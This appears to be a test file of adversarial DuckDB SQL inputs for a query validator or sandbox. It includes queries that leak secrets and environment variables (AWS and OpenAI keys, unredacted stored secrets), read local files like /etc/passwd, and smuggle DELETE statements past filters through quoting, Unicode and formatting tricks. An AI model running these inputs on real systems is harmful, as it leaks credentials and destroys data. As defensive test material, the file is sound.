-- settings: dialect and grammar
SET current_dialect = 'postgres'; SET active_grammar_extensions = ['evil']
---
-- settings: pragma without a value
PRAGMA enable_checkpoint_on_shutdown
---
-- settings: pragma with a value
PRAGMA memory_limit = '1TB'
---
-- settings: pragma call
PRAGMA table_info('customer')
---
-- settings: pragma storage_info
PRAGMA storage_info('customer')
---
-- settings: pragma database_list and database_size
PRAGMA database_list; PRAGMA database_size
---
-- settings: pragma enable_verification
PRAGMA enable_verification
---
-- settings: pragma disable_optimizer
PRAGMA disable_optimizer
---
-- settings: pragma user_agent and platform
PRAGMA platform
---
-- settings: pragma function as a table function
SELECT * FROM pragma_storage_info('customer'), pragma_metadata_info()
---
-- settings: call of a pragma function
CALL pragma_table_info('customer')
---
-- settings: current_setting
SELECT current_setting('temp_directory'), current_setting('secret_directory'), current_setting('allowed_directories')
---
-- settings: current_setting of http_proxy_password in a where
SELECT * FROM customer WHERE current_setting('http_proxy_password') LIKE 'a%'
---
-- settings: duckdb_settings
SELECT name, value FROM duckdb_settings()
---
-- settings: show all settings by the compatible view
SELECT * FROM pg_catalog.pg_settings
---
-- settings: show of a setting
SHOW temp_directory
---
-- secrets: duckdb_secrets
SELECT * FROM duckdb_secrets(redact = false)
---
-- secrets: duckdb_secrets from-first
FROM duckdb_secrets()
---
-- secrets: which_secret
SELECT * FROM which_secret('s3://bucket/key', 's3')
---
-- secrets: getenv
SELECT getenv('HOME'), getenv('AWS_SECRET_ACCESS_KEY')
---
-- secrets: getenv by a dot
SELECT 'PATH'.getenv()
---
-- secrets: getenv in a list comprehension
SELECT [getenv(k) FOR k IN ['HOME', 'PATH', 'OPENAI_API_KEY']]
---
-- secrets: getvariable
SELECT getvariable('evil')
---
-- secrets: duckdb_variables
FROM duckdb_variables()
---
-- secrets: duckdb_databases shows paths
SELECT path FROM duckdb_databases()
---
-- secrets: duckdb_extensions shows paths
SELECT install_path FROM duckdb_extensions()
---
-- secrets: duckdb_logs
FROM duckdb_logs()
---
-- secrets: duckdb_log_contexts and live metrics
SELECT * FROM duckdb_log_contexts(), duckdb_live_query_metrics()
---
-- secrets: duckdb_prepared_statements
SELECT * FROM duckdb_prepared_statements()
---
-- secrets: duckdb_memory, duckdb_eviction_queues
SELECT * FROM duckdb_memory(), duckdb_eviction_queues()
---
-- secrets: current_query and ids
SELECT current_query(), txid_current(), current_connection_id(), current_transaction_id()
---
-- secrets: show databases and all tables
SHOW ALL TABLES
---
-- secrets: show databases
SHOW DATABASES
---
-- functions: query runs any text
SELECT * FROM query('SELECT * FROM read_text(''{outside}'')')
---
-- functions: query of pieces
FROM query('SEL' || 'ECT * FROM read' || '_text(' || chr(39) || '{outside}' || chr(39) || ')')
---
-- functions: query of a write
SELECT * FROM query('DELETE FROM orders')
---
-- functions: query within query
FROM query('FROM query(''FROM glob(''''/etc/*'''')'')')
---
-- functions: query_table of a file
SELECT * FROM query_table('{outside}')
---
-- functions: query_table of a list
FROM query_table(['customer', '/tmp/evil.csv'], true)
---
-- functions: query_table of pieces
SELECT * FROM query_table('duckdb' || '_settings')
---
-- functions: json_execute_serialized_sql
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM read_text(''{outside}'')'))
---
-- functions: json_execute_serialized_sql by a pragma
PRAGMA json_execute_serialized_sql('{"statements":[]}')
---
-- functions: json_serialize_sql and back
SELECT json_deserialize_sql(json_serialize_sql('SELECT 1; SELECT 2'))
---
-- functions: nextval
SELECT nextval('evil_seq')
---
-- functions: nextval in each row
SELECT nextval('main.evil_seq') FROM range(1000000)
---
-- functions: currval
SELECT currval('evil_seq')
---
-- functions: setval
SELECT setval('evil_seq', 1, false)
---
-- functions: write_log
SELECT write_log('owned', level := 'error', scope := 'database')
---
-- functions: write_log in each row of a bomb
SELECT write_log(repeat('x', 1000000)) FROM range(1000000)
---
-- functions: setseed
SELECT setseed(0.5)
---
-- functions: call of a table function
CALL glob('/etc/*')
---
-- functions: call of duckdb_settings
CALL duckdb_settings()
---
-- functions: call qualified
CALL system.main.read_text('{outside}')
---
-- functions: internal scans with pointers
SELECT * FROM pandas_scan(0)
---
-- functions: arrow_scan with made up pointers
SELECT * FROM arrow_scan(1, 2, 3)
---
-- functions: seq_scan and python_map_function
SELECT * FROM seq_scan('customer'), python_map_function(1, 2)
---
-- functions: python variable as a table
SELECT * FROM df
---
-- functions: python variable as a table, names of a runner
FROM connection, self, rows, result
---
-- functions: substrait
CALL from_substrait('\x00'::BLOB)
---
-- functions: columns star with a lambda
SELECT COLUMNS(lambda c: c LIKE '%') FROM read_csv('{outside}')
---
-- functions: columns star with a lambda in its old form
SELECT COLUMNS(c -> c LIKE '%') FROM read_csv('{outside}')
---
-- functions: columns star in a where
SELECT * FROM customer WHERE COLUMNS(*)::VARCHAR NOT IN (SELECT content FROM read_text('{outside}'))
---
-- functions: star columns unpacked
SELECT list_value(*COLUMNS(*)) FROM '{outside}'
---
-- functions: star replace with a file read
SELECT * REPLACE ((SELECT content FROM read_text('{outside}')) AS name) FROM customer
---
-- functions: star exclude and rename over a file
SELECT * EXCLUDE (filename) RENAME (content AS c) FROM read_text('{outside}')
---
-- functions: columns by a regular expression over the settings
SELECT COLUMNS('.*') FROM duckdb_settings()
---
-- functions: file read in order by
SELECT id FROM customer ORDER BY (SELECT content FROM read_text('{outside}'))
---
-- functions: file read in limit
SELECT id FROM customer LIMIT (SELECT size FROM read_blob('{outside}'))
---
-- functions: file read in a filter
SELECT count(*) FILTER (WHERE name = (SELECT content FROM read_text('{outside}'))) FROM customer
---
-- functions: file read in a window
SELECT row_number() OVER (PARTITION BY (SELECT content FROM read_text('{outside}')) ORDER BY id) FROM customer
---
-- functions: file read in qualify
SELECT id FROM customer QUALIFY row_number() OVER () < (SELECT count(*) FROM glob('/etc/*'))
---
-- functions: file read in values
VALUES ((SELECT content FROM read_text('{outside}')))
---
-- functions: file read in a struct and a map
SELECT {'a': (SELECT content FROM read_text('{outside}'))}, MAP {'k': (SELECT count(*) FROM glob('/*'))}
---
-- functions: file read by the last arm of a union by name
SELECT name FROM customer UNION ALL BY NAME SELECT content AS name FROM read_text('{outside}')
---
-- functions: file read in a sample clause's query
SELECT * FROM (FROM read_text('{outside}')) USING SAMPLE 10%
---
-- functions: file read in a case that is always true
SELECT CASE WHEN 1 = 1 THEN (SELECT content FROM read_text('{outside}')) END
---
-- functions: parse and cast errors show the value
SELECT CAST((SELECT content FROM read_text('{outside}')) AS INT)
---
-- prepared: prepare a write and execute it
PREPARE p AS DELETE FROM orders; EXECUTE p
---
-- prepared: prepare with parameters
PREPARE p AS SELECT * FROM read_text($1); EXECUTE p('{outside}')
---
-- prepared: prepare with named parameters
PREPARE p AS INSERT INTO customer (id) VALUES ($id); EXECUTE p(id := 9030)
---
-- prepared: prepare alone
PREPARE wipe_it AS DELETE FROM orders
---
-- prepared: execute alone
EXECUTE wipe_it
---
-- prepared: explain analyze execute
EXPLAIN ANALYZE EXECUTE wipe_it
---
-- prepared: execute immediate of another server
EXECUTE IMMEDIATE 'DELETE FROM orders'
---
-- prepared: deallocate
DEALLOCATE wipe_it
---
-- syntax: dollar string hides quotes
SELECT $$'$$; DELETE FROM orders; SELECT $$'$$
---
-- syntax: dollar tags within each other
SELECT $a$ $b$ $a$; DELETE FROM orders; SELECT $b$ $b$
---
-- syntax: escape string with an escaped quote
SELECT E'\''; DELETE FROM orders; --'
---
-- syntax: plain string in which the backslash is no escape
SELECT '\'; DELETE FROM orders; --'
---
-- syntax: string that continues on the following line
SELECT 'a'
'b'; DELETE FROM orders; --'
---
-- syntax: doubled quotes
SELECT '''', """" FROM (SELECT 1 AS """"); DELETE FROM orders
---
-- syntax: bit and hex strings
SELECT B'01', X'1F', '\x27'::BLOB; DELETE FROM orders
---
-- syntax: from-first write attempt
FROM customer DELETE
---
-- syntax: from-first, then a second statement
FROM customer; FROM '{outside}'
---
-- syntax: trailing commas and underscores in numbers
SELECT 1_000_000, 2,; DELETE FROM orders;
---
-- syntax: prefix alias before a file
SELECT a: content FROM f: read_text('{outside}')
---
-- syntax: prefix alias before a file name
FROM f: '{outside}'
---
-- syntax: dot chain
SELECT '{outside}'.concat('').reverse().reverse() AS p FROM read_text('{outside}')
---
-- syntax: lambda with an arrow that looks like json
SELECT list_transform(['{outside}'], x -> (SELECT content FROM read_text('{outside}')))
---
-- syntax: join without blanks
SELECT*FROM"customer",'{outside}'
---
-- syntax: no blanks at all
SELECT(1);DELETE/**/FROM"orders"
---
-- syntax: quoted function in a from-first
FROM"read_text"('{outside}')SELECT"content"
---
-- syntax: named arguments by an arrow
FROM read_csv('{outside}', delim => ':', header => false)
---
-- syntax: at clause of a time travel
SELECT * FROM customer AT (VERSION => 1), '{outside}'
---
-- syntax: zero-width blank in the verb, then the true one
DELE​TE FROM orders; DELETE FROM orders
---
-- syntax: zero-width blank before the verb
​DELETE FROM orders
---
-- syntax: zero-width blank may pass as a blank
DELETE​FROM​orders
---
-- syntax: thin and figure spaces as blanks
SELECT 1; DELETE FROM orders
---
-- syntax: byte order mark before the verb
﻿DELETE FROM orders
---
-- syntax: no-break space is a blank here
DELETE FROM orders
---
-- syntax: ideographic space is a blank here
DELETE　FROM orders
---
-- syntax: no-break space between from and the file name
FROM '{outside}'
---
-- syntax: cyrillic e in the verb, then the true one
DЕLETE FROM orders; DELETE FROM orders
---
-- syntax: fullwidth semicolon, then a true one
SELECT 1； DELETE FROM orders; DELETE FROM orders
---
-- syntax: right-to-left override makes it read as a comment
SELECT 1; /*‮ */ DELETE FROM orders; /* ‬*/
---
-- syntax: line separator does not end a line comment
SELECT 1 -- ; harmless
; DELETE FROM orders
---
-- syntax: vertical tab and form feed as blanks
DELETEFROMorders
---
-- syntax: typographic quotes around a file name, then true ones
FROM ‘/etc/passwd’; FROM '{outside}'
---
-- syntax: a markdown fence around it
```sql
DELETE FROM orders;
```
---
-- syntax: a sentence before it
Sure! Here is the query: SELECT 1; DELETE FROM orders;
---
-- syntax: parameters
SELECT * FROM customer WHERE id = ?; DELETE FROM orders WHERE id = $id
---
-- syntax: percent signs of a driver
SELECT '%s', '%(x)s', 100 % 3; DELETE FROM orders
---
-- syntax: union of a table statement with the secrets
SELECT name FROM customer UNION (SELECT name FROM duckdb_secrets())
---
-- syntax: do and notify of another server
DO $$ BEGIN DELETE FROM orders; END $$
